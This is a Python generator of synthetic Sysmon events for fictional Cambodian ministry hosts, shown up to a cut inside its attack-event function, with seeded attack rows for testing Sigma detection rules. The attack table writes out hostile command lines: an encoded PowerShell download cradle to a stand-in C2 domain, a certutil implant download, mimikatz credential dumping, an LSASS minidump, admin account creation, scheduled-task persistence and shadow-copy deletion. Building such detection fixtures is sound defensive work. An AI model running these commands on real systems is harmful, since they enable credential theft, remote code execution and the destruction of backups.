"""Deterministic sample endpoint events in raw Sysmon field names.

The events look like what Winlogbeat forwards from the ``Microsoft-Windows-Sysmon/Operational``
channel of workstations and servers in Cambodian ministries (``mef.gov.kh``, ``moh.gov.kh``,
``moeys.gov.kh``, ``mptc.gov.kh``, ``interior.gov.kh``). Keys are the field names Sigma rules
use (``Image``, ``CommandLine``, ``ParentImage``, ``TargetObject``, ``QueryName`` ...).

Benign activity is drawn from the tables below; a fixed set of attack events (see
:data:`ATTACK_KINDS`) sits at positions that depend only on the event count, so the rules in
``rules/windows`` can be checked against exact rows.

Regenerate the bundled sample with::

    python -m neakta.samples --out neakta/data/sample_endpoint.ndjson --count 3000
"""

from __future__ import annotations

import argparse
import base64
import functools
import hashlib
import random
import uuid
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from os import PathLike
from pathlib import Path
from typing import Final

import orjson
import polars as pl

__all__ = [
    "ATTACK_KINDS",
    "PROCESS_FRAME_SCHEMA",
    "SYSMON_CHANNEL",
    "generate_endpoint_events",
    "generate_endpoint_events_with_labels",
    "generate_process_frame",
    "main",
    "write_ndjson",
]

SYSMON_CHANNEL: Final = "Microsoft-Windows-Sysmon/Operational"

# fmt: off
PROCESS_FRAME_SCHEMA: Final = pl.Schema({
    "EventID": pl.Int64, "Channel": pl.String, "Computer": pl.String, "UtcTime": pl.String,
    "ProcessId": pl.Int64, "Image": pl.String, "OriginalFileName": pl.String,
    "CommandLine": pl.String, "CurrentDirectory": pl.String, "User": pl.String,
    "IntegrityLevel": pl.String, "Hashes": pl.String, "ParentProcessId": pl.Int64,
    "ParentImage": pl.String, "ParentCommandLine": pl.String,
})
# fmt: on
"""Columns and dtypes of :func:`generate_process_frame` (Sysmon EventID 1)."""

_START: Final = datetime(2026, 11, 20, 8, 0, 0, tzinfo=UTC)
_POOL_SIZE: Final = 8192
_SUSPICIOUS_SHARE: Final = 0.001
_EVENT_IDS: Final = (1, 3, 22, 11, 13)
_EVENT_WEIGHTS: Final = (85.0, 6.0, 4.0, 3.0, 2.0)

_MINISTRIES: Final = {  # host prefix -> (NetBIOS domain, DNS domain, second IP octet)
    "mef": ("MEF", "mef.gov.kh", 10),
    "moh": ("MOH", "moh.gov.kh", 20),
    "moeys": ("MOEYS", "moeys.gov.kh", 30),
    "mptc": ("MPTC", "mptc.gov.kh", 40),
    "moi": ("MOI", "interior.gov.kh", 50),
}
# fmt: off
_HOSTS: Final = (  # (short name, role, primary user)
    ("mef-fin-ws-012", "ws", "sokha.chan"), ("mef-fin-ws-031", "ws", "vibol.sok"),
    ("mef-bud-ws-004", "ws", "sreymom.heng"), ("mef-cus-ws-118", "ws", "rithy.meas"),
    ("moh-hr-ws-027", "ws", "dara.kim"), ("moh-cdc-ws-009", "ws", "chenda.ly"),
    ("moh-his-ws-052", "ws", "bopha.nhem"), ("moeys-exam-ws-015", "ws", "visal.chea"),
    ("moeys-plan-ws-033", "ws", "sophal.keo"), ("mptc-net-ws-006", "ws", "channary.ouk"),
    ("mptc-post-ws-021", "ws", "kosal.pich"), ("moi-id-ws-044", "ws", "malis.touch"),
    ("moi-elec-ws-010", "ws", "piseth.long"), ("mef-fin-srv-03", "srv", "rithy.meas"),
    ("moh-his-srv-01", "srv", "bopha.nhem"), ("moeys-exam-srv-02", "srv", "visal.chea"),
    ("moi-id-srv-01", "srv", "piseth.long"), ("mptc-dmz-web-02", "web", "channary.ouk"),
    ("moeys-dmz-web-01", "web", "sophal.keo"),
)
# fmt: on


@dataclass(frozen=True, slots=True)
class _Host:
    fqdn: str
    role: str
    user: str
    netbios: str
    domain: str
    octet: int
    ip: str
    prefix: str


def _build_hosts() -> tuple[_Host, ...]:
    hosts = []
    for index, (short, role, user) in enumerate(_HOSTS):
        prefix = short.split("-", 1)[0]
        netbios, domain, octet = _MINISTRIES[prefix]
        ip = f"10.{octet}.{10 + index % 4}.{21 + index * 7}"
        hosts.append(_Host(f"{short}.{domain}", role, user, netbios, domain, octet, ip, prefix))
    return tuple(hosts)


_ALL_HOSTS: Final = _build_hosts()
_HOSTS_BY_ROLE: Final = {
    role: tuple(h for h in _ALL_HOSTS if role in {"any", h.role}) for role in ("ws", "srv", "web")
} | {"any": _ALL_HOSTS}
_ACCOUNTS: Final = {  # account kind -> (User template, IntegrityLevel)
    "user": ("{nb}\\{user}", "Medium"),
    "admin": ("{nb}\\adm.{user}", "High"),
    "system": ("NT AUTHORITY\\SYSTEM", "System"),
    "local": ("NT AUTHORITY\\LOCAL SERVICE", "System"),
    "network": ("NT AUTHORITY\\NETWORK SERVICE", "System"),
    "iis": ("IIS APPPOOL\\eServices", "High"),
}

_XLSX: Final = (
    "Budget_Execution_2026_Q4.xlsx",
    "Payroll_November_2026.xlsx",
    "Revenue_Collection_Kampong_Cham.xlsx",
    "Procurement_Plan_2027.xlsx",
    "Vaccination_Coverage_Siem_Reap.xlsx",
    "Grade12_Exam_Results_2026.xlsx",
)
_DOCX: Final = (
    "Prakas_Draft_v3.docx",
    "Meeting_Minutes_2026-11-18.docx",
    "Circular_Digital_Government.docx",
    "Letter_Provincial_Department.docx",
)
_PDF: Final = ("Sub-Decree_No_215.pdf", "Royal_Gazette_2026_45.pdf", "Health_Bulletin_W46.pdf")
_URLS: Final = (
    "https://www.mef.gov.kh/",
    "https://www.gdt.gov.kh/",
    "https://www.moh.gov.kh/",
    "https://outlook.office.com/mail/",
    "https://www.nbc.gov.kh/",
    "https://www.camdx.gov.kh/",
    "https://www.google.com/search?q=khmer+unicode+keyboard",
)
_SVCHOST_ARGS: Final = (
    "netsvcs -p -s Schedule",
    "netsvcs -p -s BITS",
    "netsvcs -p -s gpsvc",
    "netsvcs -p -s Winmgmt",
    "netsvcs -p -s UsoSvc",
    "LocalSystemNetworkRestricted -p -s SysMain",
    "wsappx -p -s AppXSvc",
)

_WIN = "C:\\Windows\\"
_SYS32 = _WIN + "System32\\"
_HOME = "C:\\Users\\{user}\\"
_CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_PWSH = _SYS32 + r"WindowsPowerShell\v1.0\powershell.exe"
_TEAMS = r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe"
_WEBVIEW = (
    r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\131.0.2903.70\msedgewebview2.exe"
)
_ONEDRIVE = _HOME + r"AppData\Local\Microsoft\OneDrive\OneDrive.exe"
_DEFENDER = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0" + "\\"
_CMD = _SYS32 + "cmd.exe"
_SVCHOST = _SYS32 + "svchost.exe"
_W3WP = _SYS32 + r"inetsrv\w3wp.exe"
_W3WP_ARGS = _W3WP + ' -ap "eServices" -v "v4.0" -a \\\\.\\pipe\\iisipm{guid}'
_CONHOST = r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"
_CHILD = (
    " --lang=km --field-trial-handle=1992,i,{big},{big2},262144 --mojo-platform-channel-handle={h}"
)

_PARENTS: Final = {  # key -> (ParentImage, ParentCommandLine template)
    "userinit": (_SYS32 + "userinit.exe", r"C:\Windows\system32\userinit.exe"),
    "explorer": (_WIN + "explorer.exe", r"C:\Windows\Explorer.EXE"),
    "services": (_SYS32 + "services.exe", r"C:\Windows\system32\services.exe"),
    "schedule": (_SVCHOST, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    "dcom": (_SVCHOST, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
    "wuauserv": (_SVCHOST, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv"),
    "iissvcs": (_SVCHOST, r"C:\Windows\system32\svchost.exe -k iissvcs"),
    "chrome": (_CHROME, f'"{_CHROME}" '),
    "msedge": (_EDGE, f'"{_EDGE}" --profile-directory=Default'),
    "teams": (_TEAMS, f'"{_TEAMS}" msteams:system-initiated'),
    "cmd": (_CMD, f'"{_CMD}" '),
    "powershell": (_PWSH, f'"{_PWSH}" '),
    "gpo": (_CMD, r'C:\Windows\system32\cmd.exe /c ""\\{dom}\SysVol\{dom}\scripts\tasks.cmd" "'),
    "w3wp": (_W3WP, _W3WP_ARGS),
}


@dataclass(frozen=True, slots=True)
class _Proc:
    weight: float
    role: str  # "ws", "srv", "web" or "any"
    account: str  # key of _ACCOUNTS
    parent: str  # key of _PARENTS
    image: str
    command: str  # str.format template, see _context
    cwd: str = ""  # "" means the image's folder, or system32 for services


# fmt: off
_PROCS: Final = (
    _Proc(2, "ws", "user", "userinit", _WIN + "explorer.exe", r"C:\Windows\Explorer.EXE"),
    _Proc(4, "ws", "user", "explorer", _CHROME, '"{image}" {url}'),
    _Proc(10, "ws", "user", "chrome", _CHROME, '"{image}" --type=renderer' + _CHILD),
    _Proc(3, "ws", "user", "chrome", _CHROME, '"{image}" --type=gpu-process' + _CHILD),
    _Proc(2, "ws", "user", "explorer", _EDGE, '"{image}" --single-argument {url}'),
    _Proc(5, "ws", "user", "msedge", _EDGE, '"{image}" --type=renderer' + _CHILD),
    _Proc(2, "ws", "user", "explorer", _OFFICE + "OUTLOOK.EXE", '"{image}" '),
    _Proc(3, "ws", "user", "explorer", _OFFICE + "EXCEL.EXE",
          '"{image}" "' + _HOME + 'Documents\\{xlsx}"'),
    _Proc(3, "ws", "user", "explorer", _OFFICE + "WINWORD.EXE",
          r'"{image}" /n "\\{fs}\Shared\{docx}"'),
    _Proc(2, "ws", "user", "explorer", _TEAMS, '"{image}" msteams:system-initiated'),
    _Proc(4, "ws", "user", "teams", _WEBVIEW,
          '"{image}" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe' + _CHILD),
    _Proc(1, "ws", "user", "explorer", _ONEDRIVE, '"{image}" /background'),
    _Proc(1, "ws", "user", "explorer", _SYS32 + "notepad.exe",
          '"{image}" ' + _HOME + "Desktop\\notes.txt"),
    _Proc(2, "ws", "user", "explorer", r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe",
          '"{image}" "' + _HOME + 'Downloads\\{pdf}"'),
    _Proc(1, "ws", "user", "explorer", _CMD, '"{image}" ', _HOME),
    _Proc(1, "ws", "user", "cmd", _SYS32 + "PING.EXE", "ping  -n 4 {fs}", _HOME),
    _Proc(1, "ws", "user", "cmd", _SYS32 + "net.exe",
          r"net  use Z: \\{fs}\Shared /persistent:yes", _HOME),
    _Proc(0.5, "ws", "user", "cmd", _SYS32 + "net.exe", "net  user {user} /domain", _HOME),
    _Proc(1, "ws", "user", "cmd", _SYS32 + "ipconfig.exe", "ipconfig  /all", _HOME),
    _Proc(1, "ws", "user", "cmd", _SYS32 + "gpupdate.exe", "gpupdate  /force", _HOME),
    _Proc(0.3, "ws", "user", "cmd", _SYS32 + "whoami.exe", "whoami", _HOME),
    _Proc(0.3, "ws", "user", "cmd", _SYS32 + "certutil.exe",
          'certutil  -hashfile "' + _HOME + 'Downloads\\{pdf}" SHA256', _HOME),
    _Proc(0.3, "ws", "user", "cmd", _SYS32 + "schtasks.exe", "schtasks  /query /fo LIST /v", _HOME),
    _Proc(2, "ws", "user", "cmd", _SYS32 + "conhost.exe", _CONHOST),
    _Proc(1, "ws", "user", "explorer", _PWSH, '"{image}" ', _HOME),
    _Proc(1, "ws", "user", "explorer", _PWSH, r'"{image}" -NoProfile -Command "Get-ChildItem'
          r' \\{fs}\Shared -Filter *.xlsx | Sort-Object Name"'),
    _Proc(1, "ws", "user", "explorer", _SYS32 + "rundll32.exe",
          r'"{image}" C:\Windows\system32\shell32.dll,Control_RunDLL desk.cpl'),
    _Proc(0.5, "ws", "user", "explorer", _SYS32 + "rundll32.exe",
          r"rundll32  printui.dll,PrintUIEntry /in /n \\{fs}\HP-LaserJet-{nb}"),
    _Proc(1, "ws", "user", "userinit", _CMD,
          r'C:\Windows\system32\cmd.exe /c ""\\{dom}\NETLOGON\logon.bat" "'),
    _Proc(1, "ws", "user", "schedule", _SYS32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
    _Proc(2, "ws", "user", "dcom", _SYS32 + "RuntimeBroker.exe", "{image} -Embedding"),
    _Proc(1, "ws", "user", "dcom", _SYS32 + "dllhost.exe",
          r"C:\Windows\system32\DllHost.exe /Processid:{{{guid}}}"),
    _Proc(1, "ws", "user", "dcom", _SYS32 + "backgroundTaskHost.exe",
          '"{image}" -ServerName:BackgroundTaskHost.WebAccountProvider'),
    _Proc(0.5, "ws", "user", "dcom", _SYS32 + "smartscreen.exe", "{image} -Embedding"),
    _Proc(0.3, "ws", "system", "gpo", _SYS32 + "schtasks.exe", r'schtasks.exe /create /tn'
          r' "{nb}\MapDrives" /tr "wscript.exe \\{dom}\NETLOGON\map.vbs" /sc onlogon /f'),
    _Proc(6, "any", "system", "services", _SVCHOST, r"C:\Windows\system32\svchost.exe -k {svc}"),
    _Proc(2, "any", "network", "services", _SVCHOST,
          r"C:\Windows\system32\svchost.exe -k NetworkService -p"),
    _Proc(2, "any", "local", "services", _SVCHOST,
          r"C:\Windows\system32\svchost.exe -k LocalService -p"),
    _Proc(1, "any", "system", "wuauserv", _SYS32 + "wuauclt.exe",
          '"{image}" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId {guid}'
          " /RunHandlerComServer"),
    _Proc(1, "any", "system", "dcom", _SYS32 + "MoUsoCoreWorker.exe",
          r"C:\Windows\System32\mousocoreworker.exe -Embedding"),
    _Proc(1, "any", "system", "dcom", _WIN + r"WinSxS\amd64_microsoft-windows-servicingstack_"
          r"31bf3856ad364e35_10.0.19041.5126_none_7e3a0c1a3b6d1f4c\TiWorker.exe",
          "{image} -Embedding"),
    _Proc(1, "any", "system", "schedule", _DEFENDER + "MpCmdRun.exe",
          '"{image}" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate'),
    _Proc(1, "ws", "system", "schedule",
          r"C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeC2RClient.exe",
          '"{image}" /frequentupdate SCHEDULEDTASK displaylevel=False'),
    _Proc(1, "ws", "system", "schedule", r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe",
          '"{image}" /ua /installsource scheduler'),
    _Proc(1, "any", "network", "dcom", _SYS32 + r"wbem\WmiPrvSE.exe",
          r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    _Proc(0.5, "any", "system", "schedule", _PWSH, r'"{image}" -NoLogo -NonInteractive -NoProfile'
          r" -File C:\ProgramData\{nb}\Scripts\Get-DiskReport.ps1"),
    _Proc(0.4, "srv", "admin", "cmd", _SYS32 + "vssadmin.exe", "vssadmin  list shadows"),
    _Proc(0.4, "srv", "admin", "cmd", _SYS32 + "net.exe", "net  localgroup administrators"),
    _Proc(0.5, "srv", "admin", "explorer", _PWSH,
          r'"{image}" -NoProfile -Command "Get-SmbSession | Where-Object NumOpens -gt 50"'),
    _Proc(0.5, "srv", "system", "schedule", _PWSH,
          r'"{image}" -NoProfile -ExecutionPolicy RemoteSigned -File D:\Scripts\Backup-Shares.ps1'),
    _Proc(0.4, "srv", "system", "powershell", _SYS32 + "Robocopy.exe",
          r'"{image}" D:\Shares \\{fs}\Backup /MIR /R:2 /W:5 /LOG:D:\Logs\robocopy.log'),
    _Proc(0.3, "web", "iis", "iissvcs", _W3WP, _W3WP_ARGS),
    _Proc(0.3, "web", "iis", "w3wp", _WIN + r"Microsoft.NET\Framework64\v4.0.30319\csc.exe",
          r'"{image}" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319'
          r'\Temporary ASP.NET Files\root\{hex}\{hex}.cmdline"'),
    _Proc(0.2, "web", "iis", "w3wp", _SYS32 + "conhost.exe", _CONHOST),
)
_ORIGINAL_NAMES: Final = {  # lower-case file name -> OriginalFileName of the PE version info
    "explorer.exe": "EXPLORER.EXE", "outlook.exe": "Outlook.exe", "excel.exe": "Excel.exe",
    "winword.exe": "WinWord.exe", "cmd.exe": "Cmd.Exe", "powershell.exe": "PowerShell.EXE",
    "gpupdate.exe": "GPUpdate.exe", "conhost.exe": "CONHOST.EXE", "rundll32.exe": "RUNDLL32.EXE",
    "certutil.exe": "CertUtil.exe", "vssadmin.exe": "VSSADMIN.EXE", "wmiprvse.exe": "Wmiprvse.exe",
    "notepad.exe": "NOTEPAD.EXE", "robocopy.exe": "robocopy.exe", "svchost.exe": "svchost.exe",
}
_NETWORK: Final = (  # (account, Image, DestinationHostname, DestinationIp, DestinationPort)
    ("user", _CHROME, "www.google.com", "142.250.199.68", 443),
    ("user", _EDGE, "www.bing.com", "13.107.21.200", 443),
    ("user", _OFFICE + "OUTLOOK.EXE", "outlook.office365.com", "52.98.151.66", 443),
    ("user", _TEAMS, "teams.microsoft.com", "52.113.194.132", 443),
    ("system", _SVCHOST, "download.windowsupdate.com", "13.107.4.50", 80),
    ("system", _SYS32 + "lsass.exe", "{prefix}-dc-01.{dom}", "10.{octet}.0.10", 389),
    ("system", "System", "{fs}", "10.{octet}.0.20", 445),
)
_DNS: Final = (  # (account, Image, QueryName, answer)
    ("user", _CHROME, "www.google.com", "142.250.199.68"),
    ("user", _CHROME, "clients2.google.com", "142.250.66.238"),
    ("user", _EDGE, "edge.microsoft.com", "13.107.21.239"),
    ("user", _OFFICE + "OUTLOOK.EXE", "outlook.office365.com", "52.98.151.66"),
    ("user", _TEAMS, "teams.microsoft.com", "52.113.194.132"),
    ("user", _CHROME, "www.{dom}", "10.{octet}.0.80"),
    ("network", _SVCHOST, "settings-win.data.microsoft.com", "20.42.73.29"),
    ("system", _SVCHOST, "ctldl.windowsupdate.com", "13.107.4.50"),
)
_FILES: Final = (  # (account, Image, TargetFilename)
    ("user", _CHROME, _HOME + "Downloads\\{pdf}"),
    ("user", _OFFICE + "EXCEL.EXE", _HOME + "Documents\\~${xlsx}"),
    ("user", _OFFICE + "OUTLOOK.EXE",
     _HOME + r"AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}\{docx}"),
    ("system", _SVCHOST, r"C:\Windows\Prefetch\CHROME.EXE-{hex}.pf"),
    ("system", _SYS32 + "wuauclt.exe", _WIN + r"SoftwareDistribution\Download\{hex}\update.mum"),
)
_RUN = r"\Software\Microsoft\Windows\CurrentVersion\Run" + "\\"
_REGISTRY: Final = (  # (account, Image, TargetObject, Details)
    ("user", _ONEDRIVE, r"HKU\{sid}" + _RUN + "OneDrive", f'"{_ONEDRIVE}" /background'),
    ("system", _SYS32 + "SecurityHealthService.exe",
     r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SecurityHealth",
     r"%windir%\system32\SecurityHealthSystray.exe"),
    ("user", _WIN + "explorer.exe",
     r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.xlsx\{n}",
     "Binary Data"),
    ("user", _OFFICE + "EXCEL.EXE",
     r"HKU\{sid}\Software\Microsoft\Office\16.0\Excel\Resiliency\DocumentRecovery\{hex}",
     "Binary Data"),
    ("system", _DEFENDER + "MsMpEng.exe",
     r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
     "QWORD (0x01db3b1d-0x9a2c4e00)"),
)
# fmt: on


def _encode_powershell(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


_C2_DOMAIN = "update-mef-gov-kh.duckdns.org"
_C2_IP = "203.0.113.47"
_CRADLE: Final = _encode_powershell(
    f"IEX (New-Object Net.WebClient).DownloadString('http://{_C2_DOMAIN}/a.ps1')"
)
_STAGER: Final = _encode_powershell(
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAMVXbW/aSBD+zq9YWZZs"
    "qzgY0jQlUqQjEBJaSGgM4fKCqsVe8IbFS+11gKb57zfrNW+B9HofTufiF/Z55pmZnZmcUa9ilYVXiEH"
    "ZDmhoq/nRxYSc+E1zy//yTPcJWLTSWXh0tKrWjBOd6gDlj6vq'));IEX (New-Object IO.StreamReader("
    "New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))"
    ").ReadToEnd()"
)
_WS = "mef-fin-ws-012.mef.gov.kh"
_WS_USER = "MEF\\sokha.chan"
_MOH = "moh-hr-ws-027.moh.gov.kh"
_MOH_USER = "MOH\\dara.kim"
_SRV = "mef-fin-srv-03.mef.gov.kh"
_SRV_ADMIN = "MEF\\adm.rithy.meas"
_WEB = "mptc-dmz-web-02.mptc.gov.kh"
_PSEXESVC = _WIN + "PSEXESVC.exe"
_IMPLANT = r"C:\Users\Public\Libraries\p.exe"
_WS_PS = f"powershell.exe -nop -w hidden -enc {_CRADLE}"
_MOH_PS = f'"{_PWSH}" -NoP -NonI -W Hidden -Enc {_STAGER}'
_WS_HOME = "C:\\Users\\sokha.chan\\"
_MOH_HOME = "C:\\Users\\dara.kim\\"
_WS_LOGON = (_WS_HOME + "Documents\\", _WS_USER, "Medium")
_SRV_LOGON = (_SYS32, _SRV_ADMIN, "High")
_SRV_SHELL = (5608, _CMD, f'"{_CMD}" ')  # the shell PsExec opened, parent of the later steps


@functools.cache
def _hashes(file_name: str) -> str:
    key = file_name.lower().encode()
    md5 = hashlib.md5(b"md5:" + key, usedforsecurity=False).hexdigest().upper()
    sha256 = hashlib.sha256(key).hexdigest().upper()
    imphash = hashlib.md5(b"imphash:" + key, usedforsecurity=False).hexdigest().upper()
    return f"MD5={md5},SHA256={sha256},IMPHASH={imphash}"


@functools.cache
def _sid(netbios: str, user: str) -> str:
    domain = hashlib.sha256(netbios.encode()).digest()
    parts = "-".join(str(int.from_bytes(domain[i : i + 4], "big")) for i in (0, 4, 8))
    rid = 1100 + int.from_bytes(hashlib.sha256(user.encode()).digest()[:2], "big") % 8000
    return f"S-1-5-21-{parts}-{rid}"


def _utc(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def _header(event_id: int, computer: str, utc: str) -> dict[str, object]:
    return {"EventID": event_id, "Channel": SYSMON_CHANNEL, "Computer": computer, "UtcTime": utc}


def _process_body(
    process: tuple[int, str, str],
    logon: tuple[str, str, str],
    parent: tuple[int, str, str],
    original_name: str | None = None,
) -> dict[str, object]:
    """Fields of a process creation from (pid, Image, CommandLine), (cwd, User, integrity)."""
    pid, image, command = process
    cwd, user, integrity = logon
    parent_pid, parent_image, parent_command = parent
    name = image.rsplit("\\", 1)[-1]
    return {
        "ProcessId": pid,
        "Image": image,
        "OriginalFileName": original_name or _ORIGINAL_NAMES.get(name.lower(), name),
        "CommandLine": command,
        "CurrentDirectory": cwd,
        "User": user,
        "IntegrityLevel": integrity,
        "Hashes": _hashes(name),
        "ParentProcessId": parent_pid,
        "ParentImage": parent_image,
        "ParentCommandLine": parent_command,
    }


def _dns_body(pid: int, image: str, user: str, query: str, answer: str) -> dict[str, object]:
    return {
        "ProcessId": pid,
        "QueryName": query,
        "QueryStatus": "0",
        "QueryResults": f"::ffff:{answer};",
        "Image": image,
        "User": user,
    }


# fmt: off
_ATTACKS: Final[tuple[tuple[str, int, str, Mapping[str, object]], ...]] = (
    ("web_shell_recon", 1, _WEB, _process_body(
        (5124, _SYS32 + "whoami.exe", "whoami /all"),
        (_SYS32 + "inetsrv\\", "IIS APPPOOL\\eServices", "High"),
        (3876, _W3WP, _W3WP_ARGS.format(guid="5f1c0a3e")))),
    ("encoded_powershell", 1, _WS, _process_body(
        (6140, _PWSH, _WS_PS), _WS_LOGON,
        (2232, _SYS32 + "wscript.exe", f'"{_SYS32}WScript.exe" "{_WS_HOME}AppData\\Local\\Microsoft'
         r'\Windows\INetCache\Content.Outlook\Q8ZK2M1T\Salary_Adjustment_2027.js"'))),
    ("dns_dynamic_domain", 22, _WS, _dns_body(6140, _PWSH, _WS_USER, _C2_DOMAIN, _C2_IP)),
    ("certutil_download", 1, _WS, _process_body(
        (7004, _SYS32 + "certutil.exe",
         f"certutil.exe -urlcache -split -f http://{_C2_IP}/p.exe {_IMPLANT}"),
        _WS_LOGON, (6140, _PWSH, _WS_PS))),
    ("registry_run_key", 13, _WS, {
        "EventType": "SetValue", "ProcessId": 7388, "Image": _IMPLANT,
        "TargetObject": f"HKU\\{_sid('MEF', 'sokha.chan')}{_RUN}MicrosoftEdgeAutoUpdate",
        "Details": _IMPLANT, "User": _WS_USER}),
    ("encoded_powershell", 1, _MOH, _process_body(
        (4388, _PWSH, _MOH_PS), (_MOH_HOME + "Downloads\\", _MOH_USER, "Medium"),
        (3120, _OFFICE + "WINWORD.EXE",
         f'"{_OFFICE}WINWORD.EXE" /n "{_MOH_HOME}Downloads\\Staff_Allowance_2027.docm"'))),
    ("dns_dynamic_domain", 22, _MOH, _dns_body(
        4388, _PWSH, _MOH_USER, "moh-hr-portal.ngrok-free.app", "198.51.100.23")),
    ("psexec_service", 1, _SRV, _process_body(
        (2716, _PSEXESVC, _PSEXESVC), (_SYS32, "NT AUTHORITY\\SYSTEM", "System"),
        (676, _SYS32 + "services.exe", r"C:\Windows\system32\services.exe"), "psexesvc.exe")),
    ("psexec_service", 1, _SRV, _process_body(
        (5608, _CMD, _SRV_SHELL[2]), _SRV_LOGON, (2716, _PSEXESVC, _PSEXESVC))),
    ("mimikatz", 1, _SRV, _process_body(
        (6244, r"C:\Users\Public\Libraries\m64.exe",
         'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
        (r"C:\Users\Public\Libraries" + "\\", _SRV_ADMIN, "High"), _SRV_SHELL, "mimikatz.exe")),
    ("lsass_minidump", 1, _SRV, _process_body(
        (6512, _SYS32 + "rundll32.exe",
         r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full"),
        _SRV_LOGON, _SRV_SHELL)),
    ("local_admin_account", 1, _SRV, _process_body(
        (6896, _SYS32 + "net.exe", "net user backup P@ss /add"), _SRV_LOGON, _SRV_SHELL)),
    ("local_admin_account", 1, _SRV, _process_body(
        (7020, _SYS32 + "net.exe", "net localgroup administrators backup /add"),
        _SRV_LOGON, _SRV_SHELL)),
    ("schtasks_onlogon", 1, _SRV, _process_body(
        (7332, _SYS32 + "schtasks.exe", 'schtasks /create /tn "MicrosoftEdgeUpdateCore"'
         f' /tr "{_IMPLANT}" /sc onlogon /ru SYSTEM /f'), _SRV_LOGON, _SRV_SHELL)),
    ("shadow_copy_delete", 1, _SRV, _process_body(
        (7640, _SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        _SRV_LOGON, _SRV_SHELL)),
)
# fmt: on

ATTACK_KINDS: Final[tuple[str, ...]] = tuple(dict.fromkeys(kind for kind, *_ in _ATTACKS))
"""Names of the seeded attacks, in the order they appear in generated events."""


def _context(rng: random.Random, host: _Host) -> dict[str, object]:
    """Values for the ``{placeholders}`` of the catalogue, drawn fresh for one event."""
    return {
        "user": host.user,
        "nb": host.netbios,
        "dom": host.domain,
        "prefix": host.prefix,
        "octet": host.octet,
        "fs": f"{host.prefix}-fs-01.{host.domain}",
        "sid": _sid(host.netbios, host.user),
        "n": rng.randrange(1, 64),
        "h": rng.randrange(1000, 9999),
        "big": rng.getrandbits(63),
        "big2": rng.getrandbits(63),
        "hex": f"{rng.getrandbits(32):08x}",
        "guid": str(uuid.UUID(int=rng.getrandbits(128), version=4)).upper(),
        "xlsx": rng.choice(_XLSX),
        "docx": rng.choice(_DOCX),
        "pdf": rng.choice(_PDF),
        "url": rng.choice(_URLS),
        "svc": rng.choice(_SVCHOST_ARGS),
    }


def _pid(rng: random.Random) -> int:
    return rng.randrange(1000, 40000, 4)


def _benign_process(rng: random.Random, utc: str) -> dict[str, object]:
    proc = rng.choices(_PROCS, weights=[p.weight for p in _PROCS])[0]
    host = rng.choice(_HOSTS_BY_ROLE[proc.role])
    ctx = _context(rng, host)
    image = ctx["image"] = proc.image.format_map(ctx)
    user, integrity = _ACCOUNTS[proc.account]
    parent_image, parent_command = _PARENTS[proc.parent]
    cwd = proc.cwd or (_SYS32 if integrity == "System" else image.rsplit("\\", 1)[0] + "\\")
    body = _process_body(
        (_pid(rng), image, proc.command.format_map(ctx)),
        (cwd.format_map(ctx), user.format_map(ctx), integrity),
        (_pid(rng), parent_image, parent_command.format_map(ctx)),
    )
    return _header(1, host.fqdn, utc) | body


def _benign_other(rng: random.Random, event_id: int, utc: str) -> dict[str, object]:
    table = {3: _NETWORK, 22: _DNS, 11: _FILES, 13: _REGISTRY}[event_id]
    account, image, *values = rng.choice(table)
    host = rng.choice(_HOSTS_BY_ROLE["ws" if account == "user" else "any"])
    ctx = _context(rng, host)
    user = _ACCOUNTS[str(account)][0].format_map(ctx)
    image = str(image).format_map(ctx)
    texts = [str(value).format_map(ctx) for value in values]
    pid = 4 if image == "System" else _pid(rng)
    body: dict[str, object]
    if event_id == 3:
        body = {"ProcessId": pid, "Image": image, "User": user, "Protocol": "tcp",
                "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": host.ip,
                "SourceHostname": host.fqdn, "SourcePort": rng.randrange(49152, 65535),
                "DestinationIsIpv6": "false", "DestinationIp": texts[1],
                "DestinationHostname": texts[0], "DestinationPort": values[2]}  # fmt: skip
    elif event_id == 22:
        body = _dns_body(pid, image, user, texts[0], texts[1])
    elif event_id == 11:
        body = {"ProcessId": pid, "Image": image, "TargetFilename": texts[0],
                "CreationUtcTime": utc, "User": user}  # fmt: skip
    else:
        body = {"EventType": "SetValue", "ProcessId": pid, "Image": image,
                "TargetObject": texts[0], "Details": texts[1], "User": user}  # fmt: skip
    return _header(event_id, host.fqdn, utc) | body


def _attack_event(index: int, utc: str) -> dict[str, object]:
